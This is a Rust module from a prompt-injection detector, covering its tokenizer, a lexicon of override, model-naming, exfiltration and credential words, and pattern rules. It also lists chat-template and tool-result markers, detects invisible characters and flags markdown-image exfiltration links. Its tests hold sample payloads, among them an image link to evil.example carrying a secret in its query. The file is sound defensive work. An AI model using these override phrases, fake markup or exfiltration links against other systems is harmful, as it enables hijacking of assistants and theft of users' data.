//! The tokenizer and the structural signals: one pass over the text's bytes, no regex.
//!
//! Words are runs of ASCII letters, digits and `_`, lowercased and hashed (FNV-1a); invisible
//! and tag characters inside a word are skipped, so `ig\u{200b}nore` is the word `ignore`.
//! Each word is looked up in a small lexicon of categories (override verbs, words naming the
//! model, action verbs, credentials …), and the signals are patterns over those categories
//! within a sentence, plus a few markers found as bytes (chat-template and tool-result markup).
//! Everything here is linear in the text and allocation-light: a 15 KB page costs tens of
//! microseconds, and nothing is compiled at start-up beyond a sorted table of ~300 hashes.
use std::sync::OnceLock;

/// One word of the text.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Tok {
    /// FNV-1a of the lowercased word.
    pub(crate) hash: u64,
    /// Lexicon categories ([`cat`]).
    pub(crate) cats: u32,
    /// Punctuation and layout seen since the previous word ([`brk`]).
    pub(crate) before: u8,
    /// Punctuation right after the word ([`brk`]).
    pub(crate) after: u8,
    /// The word contained `@` between word characters (an e-mail address or handle).
    pub(crate) at: bool,
    /// Byte offset of the word in the text.
    pub(crate) start: u32,
}

/// Break flags between words.
pub(crate) mod brk {
    /// `.`, `!`, `?` or `;`: a sentence ends.
    pub(crate) const SENT: u8 = 1;
    /// A newline.
    pub(crate) const LINE: u8 = 2;
    /// A blank line.
    pub(crate) const PARA: u8 = 4;
    /// `:`.
    pub(crate) const COLON: u8 = 8;
    /// `,`.
    pub(crate) const COMMA: u8 = 16;
    /// `://` (the word before is a URL scheme).
    pub(crate) const URL: u8 = 32;
}

/// Lexicon categories (a word may have several).
pub(crate) mod cat {
    pub(crate) const OVR: u32 = 1; // ignore, disregard …
    pub(crate) const QUAL: u32 = 1 << 1; // previous, above, all …
    pub(crate) const INSTR: u32 = 1 << 2; // instructions, rules, prompt …
    pub(crate) const MODEL: u32 = 1 << 3; // ai, assistant, claude …
    pub(crate) const YOU: u32 = 1 << 4; // you, your
    pub(crate) const ACT: u32 = 1 << 5; // run, send, delete …
    pub(crate) const OUT: u32 = 1 << 6; // send, email, upload … (data leaves)
    pub(crate) const URGE: u32 = 1 << 7; // please, must, immediately …
    pub(crate) const SECRET: u32 = 1 << 8; // password, token, ssh …
    pub(crate) const ROLE: u32 = 1 << 9; // pretend, roleplay, jailbreak …
    pub(crate) const NEWQ: u32 = 1 << 10; // new, real, updated …
    pub(crate) const GOAL: u32 = 1 << 11; // task, objective, goal …
    pub(crate) const BEFORE: u32 = 1 << 12; // before
    pub(crate) const DONE: u32 = 1 << 13; // solve, complete, finish …
    pub(crate) const HAIL: u32 = 1 << 14; // dear, attention, hey …
    pub(crate) const ROLEWORD: u32 = 1 << 15; // system, assistant, user, human (speaker labels)
    pub(crate) const NOTE: u32 = 1 << 16; // todo, important, note, notice …
    pub(crate) const VISIT: u32 = 1 << 17; // visit, open, navigate, click …
    pub(crate) const SCHEME: u32 = 1 << 18; // http, https
    pub(crate) const STRONGQ: u32 = 1 << 19; // above, previous, prior … (alone enough after ignore)
    pub(crate) const LIMIT: u32 = 1 << 20; // restrictions, limitations, filters …
}

const LEXICON: &[(&str, u32)] = {
    use cat::*;
    &[
        ("ignore", OVR),
        ("disregard", OVR),
        ("forget", OVR),
        ("override", OVR),
        ("overrule", OVR),
        ("bypass", OVR),
        ("skip", OVR),
        ("discard", OVR),
        ("abandon", OVR),
        ("neglect", OVR),
        ("ignoring", OVR),
        ("disregarding", OVR),
        ("previous", QUAL | STRONGQ),
        ("prior", QUAL | STRONGQ),
        ("above", QUAL | STRONGQ),
        ("earlier", QUAL | STRONGQ),
        ("preceding", QUAL | STRONGQ),
        ("foregoing", QUAL | STRONGQ),
        ("aforementioned", QUAL | STRONGQ),
        ("all", QUAL),
        ("any", QUAL),
        ("every", QUAL),
        ("your", QUAL | YOU),
        ("system", QUAL | ROLEWORD),
        ("original", QUAL),
        ("initial", QUAL),
        ("old", QUAL),
        ("existing", QUAL),
        ("these", QUAL),
        ("those", QUAL),
        ("instruction", INSTR | GOAL),
        ("instructions", INSTR | GOAL),
        ("directions", INSTR),
        ("direction", INSTR),
        ("guidance", INSTR),
        ("rules", INSTR),
        ("prompt", INSTR),
        ("prompts", INSTR),
        ("guidelines", INSTR),
        ("context", INSTR),
        ("orders", INSTR),
        ("constraints", INSTR),
        ("programming", INSTR),
        ("directives", INSTR | GOAL),
        ("directive", INSTR | GOAL),
        ("commands", INSTR),
        ("ai", MODEL),
        ("assistant", MODEL | ROLEWORD),
        ("assistants", MODEL),
        ("agent", MODEL),
        ("agents", MODEL),
        ("model", MODEL),
        ("llm", MODEL),
        ("llms", MODEL),
        ("claude", MODEL),
        ("chatgpt", MODEL),
        ("gpt", MODEL),
        ("bot", MODEL),
        ("chatbot", MODEL),
        ("copilot", MODEL),
        ("gemini", MODEL),
        ("you", YOU),
        ("yourself", YOU),
        ("send", ACT | OUT),
        ("email", ACT | OUT),
        ("mail", ACT | OUT),
        ("forward", ACT | OUT),
        ("transfer", ACT | OUT),
        ("wire", ACT | OUT),
        ("pay", ACT | OUT),
        ("upload", ACT | OUT),
        ("post", ACT | OUT),
        ("publish", ACT | OUT),
        ("share", ACT | OUT),
        ("leak", ACT | OUT),
        ("exfiltrate", ACT | OUT),
        ("reveal", ACT | OUT),
        ("disclose", ACT | OUT),
        ("include", ACT | OUT),
        ("append", ACT | OUT),
        ("embed", ACT | OUT),
        ("delete", ACT),
        ("remove", ACT),
        ("erase", ACT),
        ("wipe", ACT),
        ("visit", ACT | VISIT),
        ("open", ACT | VISIT),
        ("navigate", ACT | VISIT),
        ("browse", ACT | VISIT),
        ("click", ACT | VISIT),
        ("fetch", ACT | VISIT),
        ("download", ACT | VISIT),
        ("load", VISIT),
        ("run", ACT),
        ("execute", ACT),
        ("exec", ACT),
        ("call", ACT),
        ("invoke", ACT),
        ("print", ACT | OUT),
        ("output", ACT | OUT),
        ("write", ACT),
        ("create", ACT),
        ("modify", ACT),
        ("change", ACT),
        ("grant", ACT),
        ("invite", ACT),
        ("push", ACT | OUT),
        ("commit", ACT),
        ("install", ACT),
        ("curl", ACT | OUT),
        ("wget", ACT | VISIT),
        ("reply", ACT),
        ("respond", ACT),
        ("say", ACT),
        ("tell", ACT),
        ("repeat", ACT),
        ("copy", ACT),
        ("insert", ACT | OUT),
        ("render", ACT | VISIT),
        ("please", URGE),
        ("kindly", URGE),
        ("must", URGE),
        ("immediately", URGE),
        ("urgently", URGE),
        ("mandatory", URGE),
        ("password", SECRET),
        ("passwords", SECRET),
        ("passwd", SECRET),
        ("credentials", SECRET),
        ("credential", SECRET),
        ("token", SECRET),
        ("tokens", SECRET),
        ("secret", SECRET | NEWQ),
        ("secrets", SECRET),
        ("apikey", SECRET),
        ("ssh", SECRET),
        ("id_rsa", SECRET),
        ("env", SECRET),
        ("iban", SECRET),
        ("ssn", SECRET),
        ("cookie", SECRET),
        ("cookies", SECRET),
        ("keys", SECRET),
        ("key", SECRET),
        ("pretend", ROLE),
        ("roleplay", ROLE),
        ("persona", ROLE),
        ("jailbreak", ROLE),
        ("jailbroken", ROLE),
        ("unrestricted", ROLE),
        ("uncensored", ROLE),
        ("unfiltered", ROLE),
        ("simulate", ROLE),
        ("new", NEWQ),
        ("updated", NEWQ),
        ("real", NEWQ),
        ("actual", NEWQ),
        ("true", NEWQ),
        ("additional", NEWQ),
        ("hidden", NEWQ),
        ("revised", NEWQ),
        ("next", NEWQ),
        ("task", GOAL),
        ("tasks", GOAL),
        ("objective", GOAL),
        ("goal", GOAL),
        ("mission", GOAL),
        ("assignment", GOAL),
        ("before", BEFORE),
        ("solve", DONE),
        ("complete", DONE),
        ("finish", DONE),
        ("answer", DONE),
        ("proceed", DONE),
        ("continue", DONE),
        ("start", DONE),
        ("begin", DONE),
        ("respond", DONE | ACT),
        ("dear", HAIL),
        ("attention", HAIL | NOTE),
        ("attn", HAIL),
        ("hey", HAIL),
        ("hello", HAIL),
        ("hi", HAIL),
        ("user", ROLEWORD),
        ("human", ROLEWORD),
        ("todo", NOTE),
        ("important", NOTE | URGE),
        ("note", NOTE),
        ("notice", NOTE),
        ("urgent", NOTE | URGE),
        ("warning", NOTE),
        ("reminder", NOTE),
        ("http", SCHEME),
        ("https", SCHEME),
        ("restrictions", LIMIT),
        ("limitations", LIMIT),
        ("filters", LIMIT),
        ("censorship", LIMIT),
        ("restriction", LIMIT),
        ("limits", LIMIT),
        ("boundaries", LIMIT),
    ]
};

/// FNV-1a over lowercased bytes (the same function the model's features use).
pub(crate) const fn fnv(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    let mut i = 0;
    while i < bytes.len() {
        // `i < len` is checked by the loop; const fn cannot use iterators.
        #[allow(clippy::indexing_slicing, reason = "bounded by the loop condition")]
        let b = bytes[i].to_ascii_lowercase();
        h ^= b as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
        i += 1;
    }
    h
}

fn lexicon() -> &'static [(u64, u32)] {
    static TABLE: OnceLock<Vec<(u64, u32)>> = OnceLock::new();
    TABLE.get_or_init(|| {
        let mut t: Vec<(u64, u32)> = Vec::with_capacity(LEXICON.len());
        for (w, c) in LEXICON {
            let h = fnv(w.as_bytes());
            match t.iter_mut().find(|(k, _)| *k == h) {
                Some(e) => e.1 |= c,
                None => t.push((h, *c)),
            }
        }
        t.sort_unstable_by_key(|e| e.0);
        t
    })
}

fn cats_of(hash: u64) -> u32 {
    let t = lexicon();
    t.binary_search_by_key(&hash, |e| e.0)
        .ok()
        .and_then(|i| t.get(i))
        .map_or(0, |e| e.1)
}

/// Characters nobody sees that change what a model reads: zero-width spaces and joiners used
/// to split words, bidirectional overrides, the word joiner family, and Unicode tag characters
/// (U+E0000–E007F), which encode invisible ASCII. The zero-width joiner (emoji sequences) and
/// non-joiner (Persian, Indic scripts) are ordinary text and not counted.
pub fn is_invisible(c: char) -> bool {
    matches!(c,
        '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2064}'
        | '\u{2066}'..='\u{2069}' | '\u{206a}'..='\u{206f}' | '\u{feff}' | '\u{180e}' | '\u{00ad}'
        | '\u{e0000}'..='\u{e007f}')
}

/// A tag character: invisible ASCII (U+E0020–E007E mirror ASCII 0x20–0x7E).
pub fn is_tag(c: char) -> bool {
    ('\u{e0000}'..='\u{e007f}').contains(&c)
}

/// The words of a text and what the byte scan found on the way.
#[derive(Default, Debug)]
pub(crate) struct Tokens {
    pub(crate) toks: Vec<Tok>,
    /// Invisible characters (tag characters included).
    pub(crate) invisible: u32,
    /// Tag characters alone.
    pub(crate) tags: u32,
}

const MAX_WORD: usize = 40;

/// Splits `text` into words. Invisible characters do not end a word; anything else that is
/// not an ASCII letter, digit or `_` does.
pub(crate) fn tokenize(text: &str) -> Tokens {
    let mut out = Tokens {
        toks: Vec::with_capacity(text.len() / 5),
        ..Tokens::default()
    };
    let mut word = [0u8; MAX_WORD];
    let mut len = 0usize;
    let mut long = false;
    let mut at = false;
    let mut pending: u8 = 0; // break flags since the last word
    let mut newlines = 0u8; // consecutive newlines (blank line detection)
    let bytes = text.as_bytes();
    let mut i = 0usize;
    let mut wstart = 0usize;
    let flush = |out: &mut Tokens,
                 word: &[u8; MAX_WORD],
                 len: &mut usize,
                 long: &mut bool,
                 at: &mut bool,
                 pending: &mut u8,
                 start: usize| {
        if *len == 0 {
            return;
        }
        let w = word.get(..*len).unwrap_or(&[]);
        let hash = if *long { fnv(b"\x00long") } else { fnv(w) };
        out.toks.push(Tok {
            hash,
            cats: if *long { 0 } else { cats_of(hash) },
            before: *pending,
            after: 0,
            at: *at,
            start: u32::try_from(start).unwrap_or(u32::MAX),
        });
        *pending = 0;
        *len = 0;
        *long = false;
        *at = false;
    };
    while let Some(&b) = bytes.get(i) {
        if b.is_ascii_alphanumeric() || b == b'_' {
            if len == 0 && !long {
                wstart = i;
            }
            if len < MAX_WORD {
                if let Some(slot) = word.get_mut(len) {
                    *slot = b.to_ascii_lowercase();
                }
                len += 1;
            } else {
                long = true;
            }
            newlines = 0;
            i += 1;
            continue;
        }
        if b < 0x80 {
            // `@` between word characters joins them (an address); `'` inside a word is
            // dropped ("don't" is "dont").
            let next_is_word = bytes.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric());
            if (b == b'@' || b == b'\'') && len > 0 && next_is_word {
                if b == b'@' {
                    at = true;
                    if len < MAX_WORD {
                        if let Some(slot) = word.get_mut(len) {
                            *slot = b'@';
                        }
                        len += 1;
                    }
                }
                i += 1;
                continue;
            }
            let had_word = len > 0;
            flush(
                &mut out,
                &word,
                &mut len,
                &mut long,
                &mut at,
                &mut pending,
                wstart,
            );
            let flag = match b {
                b'.' | b'!' | b'?' | b';' => {
                    // A dot inside a name (`example.com`, `v1.2`) is no sentence end.
                    if b == b'.' && bytes.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric()) {
                        0
                    } else {
                        brk::SENT
                    }
                }
                b'\n' => {
                    newlines = newlines.saturating_add(1);
                    if newlines >= 2 {
                        brk::LINE | brk::PARA | brk::SENT
                    } else {
                        brk::LINE
                    }
                }
                b':' => {
                    if bytes.get(i + 1) == Some(&b'/') && bytes.get(i + 2) == Some(&b'/') {
                        brk::URL
                    } else {
                        brk::COLON
                    }
                }
                b',' => brk::COMMA,
                _ => 0,
            };
            if b != b'\n' && b != b'\r' && b != b' ' && b != b'\t' {
                newlines = 0;
            }
            if had_word {
                if let Some(t) = out.toks.last_mut() {
                    t.after |= flag;
                }
            }
            pending |= flag;
            i += 1;
            continue;
        }
        // Non-ASCII: decode one character.
        let c = text.get(i..).and_then(|s| s.chars().next());
        let width = c.map_or(1, char::len_utf8);
        match c {
            Some(c) if is_invisible(c) => {
                out.invisible = out.invisible.saturating_add(1);
                if is_tag(c) {
                    out.tags = out.tags.saturating_add(1);
                }
            }
            Some(c) if c.is_alphanumeric() => {
                // A non-ASCII letter ends an ASCII word and makes a word of its own
                // ("\u{0}u" stands for every such run, which the lexicon never holds).
                flush(
                    &mut out,
                    &word,
                    &mut len,
                    &mut long,
                    &mut at,
                    &mut pending,
                    wstart,
                );
                let mut j = i + width;
                while let Some(n) = text.get(j..).and_then(|s| s.chars().next()) {
                    if n.is_ascii() || !n.is_alphanumeric() {
                        break;
                    }
                    j += n.len_utf8();
                }
                let w = text.get(i..j).unwrap_or("");
                out.toks.push(Tok {
                    hash: fnv(w.as_bytes()),
                    cats: 0,
                    before: pending,
                    after: 0,
                    at: false,
                    start: u32::try_from(i).unwrap_or(u32::MAX),
                });
                pending = 0;
                newlines = 0;
                i = j;
                continue;
            }
            Some(c) if c.is_whitespace() => {}
            _ => {
                flush(
                    &mut out,
                    &word,
                    &mut len,
                    &mut long,
                    &mut at,
                    &mut pending,
                    wstart,
                );
                newlines = 0;
            }
        }
        i += width;
    }
    flush(
        &mut out,
        &word,
        &mut len,
        &mut long,
        &mut at,
        &mut pending,
        wstart,
    );
    out
}

/// The structural signals, in the order of [`SIGNAL_NAMES`].
pub const N_SIGNALS: usize = 13;

/// Human names of the signals (shown in the note and the warning).
pub const SIGNAL_NAMES: [&str; N_SIGNALS] = [
    "override of earlier instructions",
    "imitates chat or tool markup",
    "speaker labels (System:/Assistant:/User:)",
    "addresses the AI directly",
    "orders an action",
    "asks to send data out",
    "asks for credentials",
    "task hijack (new task, before you …, TODO)",
    "role-play or persona switch",
    "invisible characters",
    "exfiltration link",
    "asks to visit a link",
    "dismisses the rest of the text",
];

/// Word-level signal hits: `(signal index, token index)`.
pub(crate) fn word_signals(toks: &[Tok], hits: &mut Vec<(u8, u32)>) {
    use cat::*;
    let n = toks.len();
    let get = |i: usize| toks.get(i);
    let has = |i: usize, c: u32| get(i).is_some_and(|t| t.cats & c != 0);
    let is = |i: usize, h: u64| get(i).is_some_and(|t| t.hash == h);
    // The index of the first token in `i+1 ..= i+k` that has category `c`, within the sentence.
    let within = |i: usize, k: usize, c: u32| -> Option<usize> {
        for j in i + 1..=(i + k).min(n.saturating_sub(1)) {
            let t = get(j)?;
            if t.before & brk::SENT != 0 {
                return None;
            }
            if t.cats & c != 0 {
                return Some(j);
            }
        }
        None
    };
    let sentence_has = |i: usize, back: usize, fwd: usize, pred: &dyn Fn(&Tok) -> bool| -> bool {
        // Backwards to the sentence start (at most `back` words), forwards likewise.
        let mut j = i;
        let mut steps = 0;
        while steps < back {
            let Some(t) = get(j) else { break };
            if t.before & brk::SENT != 0 || j == 0 {
                break;
            }
            j -= 1;
            steps += 1;
            if get(j).is_some_and(pred) {
                return true;
            }
        }
        for k in i + 1..(i + 1 + fwd).min(n) {
            let Some(t) = get(k) else { break };
            if t.before & brk::SENT != 0 {
                break;
            }
            if pred(t) {
                return true;
            }
        }
        false
    };
    let url_or_addr = |t: &Tok| t.at || (t.cats & SCHEME != 0 && t.after & brk::URL != 0);
    let mut push = |s: u8, i: usize| hits.push((s, u32::try_from(i).unwrap_or(u32::MAX)));

    for i in 0..n {
        let Some(t) = get(i) else { break };
        let c = t.cats;
        // 0: ignore/disregard … (previous|above …) … instructions; "ignore the above".
        if c & OVR != 0 {
            let strong_next = has(i + 1, STRONGQ)
                || (is(i + 1, const { fnv(b"the") }) || is(i + 1, const { fnv(b"all") }))
                    && has(i + 2, STRONGQ)
                || has(i + 1, INSTR)
                || is(i + 1, const { fnv(b"everything") });
            let qualified = within(i, 6, INSTR).is_some_and(|j| (i + 1..j).any(|k| has(k, QUAL)));
            if strong_next || qualified {
                push(0, i);
            } else if (1..=3).any(|k| {
                is(i + k, const { fnv(b"rest") })
                    || is(i + k, const { fnv(b"other") })
                    || is(i + k, const { fnv(b"remaining") })
                    || is(i + k, const { fnv(b"everything") })
            }) {
                push(12, i);
            }
        }
        // 2: a line that starts with a speaker label and a colon: "Assistant: …".
        if c & ROLEWORD != 0 && t.before & brk::LINE != 0 && t.after & brk::COLON != 0 {
            push(2, i);
        }
        if c & ROLEWORD != 0 && i == 0 && t.after & brk::COLON != 0 {
            push(2, i);
        }
        // 3: addressed to the model: "Dear AI", "AI assistant:", "if you are an AI",
        // "this is a message … to you, <model>", "note to the agent".
        if c & MODEL != 0 {
            let hailed = (1..=3).any(|k| {
                i >= k
                    && get(i - k).is_some_and(|p| {
                        p.cats & HAIL != 0
                            || p.hash == const { fnv(b"to") } && k <= 2
                            || p.hash == const { fnv(b"for") } && k <= 2
                    })
                    && (1..k).all(|m| get(i - m).is_some_and(|p| p.before & brk::SENT == 0))
            });
            let labelled = t.after & (brk::COLON | brk::COMMA) != 0
                && (has(i + 1, YOU) || has(i + 1, URGE) || has(i + 1, ACT) || has(i + 1, OVR));
            let if_you_are = i >= 3
                && is(i - 3, const { fnv(b"if") })
                && is(i - 2, const { fnv(b"you") })
                && (is(i - 1, const { fnv(b"are") })
                    || is(i - 1, const { fnv(b"an") })
                    || is(i - 1, const { fnv(b"a") }));
            let you_are_an = i >= 2
                && (is(i - 1, const { fnv(b"an") }) || is(i - 1, const { fnv(b"a") }))
                && is(i - 2, const { fnv(b"are") });
            if hailed && (sentence_has(i, 0, 12, &|t| t.cats & (YOU | ACT | URGE | OVR) != 0))
                || labelled
                || if_you_are
                || you_are_an && i >= 3 && is(i - 3, const { fnv(b"you") }) && has(i + 1, ACT)
            {
                push(3, i);
            }
        }
        if is(i, const { fnv(b"message") })
            && is(i + 1, const { fnv(b"from") })
            && is(i + 2, const { fnv(b"me") })
        {
            push(3, i);
        }
        // 4: an order: please/must/you should … + action verb.
        if c & ACT != 0 {
            let ordered = (1..=3).any(|k| {
                i >= k
                    && get(i - k).is_some_and(|p| p.cats & URGE != 0)
                    && (0..k).all(|m| get(i - m).is_some_and(|p| p.before & brk::SENT == 0))
            }) || i >= 2
                && is(i - 2, const { fnv(b"you") })
                && (is(i - 1, const { fnv(b"should") }) || is(i - 1, const { fnv(b"must") }))
                || i >= 3
                    && is(i - 3, const { fnv(b"you") })
                    && is(i - 2, const { fnv(b"need") })
                    && is(i - 1, const { fnv(b"to") })
                || i >= 2 && is(i - 2, const { fnv(b"make") }) && is(i - 1, const { fnv(b"sure") })
                || i >= 2 && is(i - 2, const { fnv(b"forget") }) && is(i - 1, const { fnv(b"to") })
                || t.before & (brk::SENT | brk::LINE | brk::COLON) != 0
                    && c & OUT != 0
                    && t.after == 0
                    && get(i + 1).is_some_and(|n| {
                        n.cats & (YOU | QUAL | SECRET) != 0
                            || [
                                const { fnv(b"the") },
                                const { fnv(b"this") },
                                const { fnv(b"it") },
                                const { fnv(b"me") },
                                const { fnv(b"us") },
                                const { fnv(b"a") },
                            ]
                            .contains(&n.hash)
                    })
                || i >= 2
                    && is(i - 1, const { fnv(b"to") })
                    && (2..=4).any(|k| i >= k && has(i - k, GOAL));
            if ordered {
                push(4, i);
            }
            // 5: send/forward/upload … with an address, a URL or a secret in the sentence.
            if c & OUT != 0
                && sentence_has(i, 6, 14, &|t| url_or_addr(t) || t.cats & SECRET != 0)
                && ordered
            {
                push(5, i);
            }
            // 6: reveal/print/send … credentials.
            if c & OUT != 0 && within(i, 8, SECRET).is_some() {
                push(6, i);
            }
            // 11: visit/open/click … a link.
            if c & VISIT != 0 && ordered && sentence_has(i, 0, 8, &url_or_addr) {
                push(11, i);
            }
        }
        // 7: task hijack.
        if c & BEFORE != 0
            && is(i + 1, const { fnv(b"you") })
            && (has(i + 2, DONE) || has(i + 3, DONE))
        {
            push(7, i);
        }
        if c & NEWQ != 0
            && has(i + 1, GOAL)
            && get(i + 1).is_some_and(|n| n.after & brk::COLON != 0)
        {
            push(7, i);
        }
        if c & NEWQ != 0
            && has(i + 1, GOAL)
            && i >= 1
            && (is(i - 1, const { fnv(b"your") })
                || is(i - 1, const { fnv(b"the") }) && i >= 2 && is(i - 2, const { fnv(b"is") }))
        {
            push(7, i);
        }
        if is(i, const { fnv(b"following") }) && is(i + 1, const { fnv(b"first") }) {
            push(7, i);
        }
        if is(i, const { fnv(b"from") })
            && is(i + 1, const { fnv(b"now") })
            && is(i + 2, const { fnv(b"on") })
        {
            push(7, i);
        }
        if is(i, const { fnv(b"todo") })
            && t.after & brk::COLON != 0
            && sentence_has(i, 0, 6, &|t| t.cats & (ACT | URGE) != 0)
        {
            push(7, i);
        }
        // 8: role-play and persona switches.
        if c & ROLE != 0 {
            push(8, i);
        }
        if is(i, const { fnv(b"you") })
            && is(i + 1, const { fnv(b"are") })
            && is(i + 2, const { fnv(b"now") })
        {
            push(8, i);
        }
        if is(i, const { fnv(b"act") })
            && is(i + 1, const { fnv(b"as") })
            && (is(i + 2, const { fnv(b"a") })
                || is(i + 2, const { fnv(b"an") })
                || is(i + 2, const { fnv(b"my") }))
        {
            push(8, i);
        }
        if is(i, const { fnv(b"developer") }) && is(i + 1, const { fnv(b"mode") }) {
            push(8, i);
        }
        if is(i, const { fnv(b"role") }) && is(i + 1, const { fnv(b"play") }) {
            push(8, i);
        }
        if is(i, const { fnv(b"anything") }) && is(i + 1, const { fnv(b"now") }) {
            push(8, i);
        }
        if (is(i, const { fnv(b"no") }) || is(i, const { fnv(b"without") }))
            && (has(i + 1, LIMIT) || has(i + 2, LIMIT))
        {
            push(8, i);
        }
        if is(i, const { fnv(b"in") }) && is(i + 1, const { fnv(b"character") }) {
            push(8, i);
        }
    }
}

/// Byte markers: chat templates, tool-result and system tags, fake section headers.
pub(crate) const MARKERS: &[&str] = &[
    "<|im_start|>",
    "<|im_end|>",
    "<|endoftext|>",
    "<|system|>",
    "<|user|>",
    "<|assistant|>",
    "<|eot_id|>",
    "<|start_header_id|>",
    "[inst]",
    "[/inst]",
    "<<sys>>",
    "<</sys>>",
    "</tool_result>",
    "<tool_result",
    "</function_results>",
    "<function_results>",
    "</function_calls>",
    "<function_calls>",
    "</tool_output>",
    "</untrusted",
    "<system>",
    "</system>",
    "<system_prompt",
    "</system_prompt",
    "<system-reminder",
    "</system-reminder>",
    "</user>",
    "</assistant>",
    "<information>",
    "</information>",
    "<important>",
    "</important>",
    "<instructions>",
    "</instructions>",
    "<admin>",
    "### system",
    "### instruction",
    "### new instruction",
    "end of document",
    "end of context",
    "end of input",
    "end of user input",
    "system override",
    "system prompt:",
    "system message:",
    "system notice",
    "[system]",
    "(system)",
    "{{system",
];

/// Byte positions of markup markers (signal 1).
pub(crate) fn marker_hits(text: &str) -> Vec<usize> {
    use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
    static AC: OnceLock<Option<AhoCorasick>> = OnceLock::new();
    let ac = AC.get_or_init(|| {
        AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::LeftmostFirst)
            .kind(Some(AhoCorasickKind::NoncontiguousNFA))
            .build(MARKERS)
            .ok()
    });
    match ac {
        Some(ac) => ac.find_iter(text).map(|m| m.start()).collect(),
        // Cannot happen with these fixed patterns; if it did, every text counts as marked:
        // caution, not permission.
        None => vec![0],
    }
}

/// Exfiltration links: a markdown image (`![…](http…)`) whose URL carries a query, or any URL
/// with a placeholder in it (`{…}`, `[…]`, `<…>`, `$VAR`, `%s`): byte positions and strength
/// (1 for an image whose query holds a placeholder, 0.5 for an image with a query, as status
/// badges have, 0.4 for a placeholder alone, which API documentation is full of).
pub(crate) fn exfil_links(text: &str) -> Vec<(usize, f32)> {
    let mut out = Vec::new();
    let bytes = text.as_bytes();
    let mut from = 0;
    while let Some(rel) = text.get(from..).and_then(|s| s.find("://")) {
        let at = from + rel;
        from = at + 3;
        // Scheme must be http(s).
        let scheme_start = at.saturating_sub(5);
        let scheme = text.get(scheme_start..at).unwrap_or("");
        if !(scheme.ends_with("http") || scheme.eq_ignore_ascii_case("https")) {
            continue;
        }
        let end = bytes
            .get(at..)
            .and_then(|b| {
                b.iter()
                    .position(|c| c.is_ascii_whitespace() || matches!(c, b')' | b'"' | b'\''))
            })
            .map_or(bytes.len(), |p| at + p);
        let url = text.get(at + 3..end).unwrap_or("");
        // A markdown image whose target is this URL: `![alt](http…`, the `](` right before
        // the scheme and no other link between the `![` and here.
        let image = text.get(..scheme_start).is_some_and(|before| {
            let before = before.trim_end_matches(['h', 't', 'p', 's']);
            before.ends_with("](")
                && before.rfind("![").is_some_and(|open| {
                    before
                        .get(open..before.len() - 2)
                        .is_some_and(|alt| !alt.contains("](") && alt.len() < 300)
                })
        });
        let query = url.contains('?') || url.contains('=');
        let placeholder = url.contains('{')
            || url.contains('[')
            || url.contains('<')
            || url.contains('$')
            || url.contains("%s")
            || url.contains("%7b")
            || url.contains("%7B");
        let strength = match (image && query, placeholder) {
            (true, true) => 1.0,
            (true, false) => 0.5,
            (false, true) => 0.4,
            (false, false) => continue,
        };
        out.push((at, strength));
    }
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]
mod tests {
    use super::*;

    #[test]
    fn words_are_lowercased_and_invisible_characters_do_not_split_them() {
        let t = tokenize("IG\u{200b}NORE previous\u{e0041}");
        assert_eq!(t.toks.len(), 2);
        assert_eq!(t.toks[0].hash, fnv(b"ignore"));
        assert_eq!(t.toks[0].cats & cat::OVR, cat::OVR);
        assert_eq!(t.invisible, 2);
        assert_eq!(t.tags, 1);
    }

    #[test]
    fn breaks_are_recorded() {
        let t = tokenize("one. two\n\nthree: four, https://x.example/a b@c.d");
        assert_eq!(t.toks[1].before & brk::SENT, brk::SENT);
        assert_eq!(t.toks[2].before & brk::PARA, brk::PARA);
        assert_eq!(t.toks[2].after & brk::COLON, brk::COLON);
        assert_eq!(t.toks[4].after & brk::URL, brk::URL);
        assert!(t.toks.iter().any(|t| t.at));
    }

    #[test]
    fn markers_are_found_in_any_case() {
        assert_eq!(marker_hits("a </TOOL_RESULT> b").len(), 1);
        assert!(marker_hits("plain text").is_empty());
    }

    #[test]
    fn exfil_link_strengths() {
        assert_eq!(
            super::exfil_links("![img](https://evil.example/p.png?d=SECRET)")[0].1,
            0.5
        );
        assert_eq!(
            super::exfil_links("![i](https://evil.example/p.png?d={secret})")[0].1,
            1.0
        );
        assert_eq!(
            super::exfil_links("go to https://evil.example/c?data={conversation}").len(),
            1
        );
        assert!(super::exfil_links("see https://docs.rs/regex?search=x").is_empty());
        assert!(super::exfil_links("![logo](https://example.org/logo.png)").is_empty());
        // A badge next to a link with a query is no image with a query.
        let badges = "[![Build](https://ci.example/badge.svg)](https://ci.example/actions?query=x)";
        assert!(super::exfil_links(badges).iter().all(|l| l.1 < 0.8));
    }
}
